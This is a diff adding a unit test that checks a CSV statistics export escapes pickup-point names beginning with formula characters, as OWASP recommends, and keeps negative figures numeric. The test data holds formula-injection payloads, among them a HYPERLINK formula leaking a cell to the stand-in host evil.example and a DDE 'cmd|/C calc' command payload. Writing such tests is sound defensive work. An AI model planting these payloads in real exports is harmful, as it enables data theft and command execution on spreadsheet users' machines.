@@ -63,4 +63,39 @@ describe('statsCsv', () => {
       '21.11.2026;2;4280,5;210;1400;1300;500;0;214,03;3414,03;866,47;;\r\n',
     );
   });
+
+  it('writes a name that would start a formula as text, the way OWASP says, and keeps a loss a number', () => {
+    const names = [
+      '=HYPERLINK("https://evil.example/?leak="&A1;"Подробнее")',
+      '@SUM(1+1)*cmd|/C calc!A0',
+      '+1+2',
+      '-2+3',
+      '\t=1+1',
+      '\r=1+1',
+    ];
+    const rigged = {
+      ...stats,
+      byPickupPoint: names.map((name, index) => ({
+        ...figures,
+        margin: -50,
+        marginPercent: -1.2,
+        pickupPointId: index + 1,
+        name,
+      })),
+    };
+    const rows = statsCsv(rigged, 'Пункт выдачи', splitRows(rigged, 'byPickupPoint'))
+      .slice(1)
+      .split('\r\n')
+      .slice(2, 2 + names.length);
+    expect(rows.map((row) => row.slice(0, row.indexOf(';2;')))).toEqual([
+      '"\'=HYPERLINK(""https://evil.example/?leak=""&A1;""Подробнее"")"',
+      '"\'@SUM(1+1)*cmd|/C calc!A0"',
+      '"\'+1+2"',
+      '"\'-2+3"',
+      '"\'\t=1+1"',
+      '"\'\r=1+1"',
+    ]);
+    // The figures stay numbers Excel adds up: a loss is -50, not text.
+    expect(rows[0]?.endsWith(';-50;-1,2;2140,25')).toBe(true);
+  });
 });
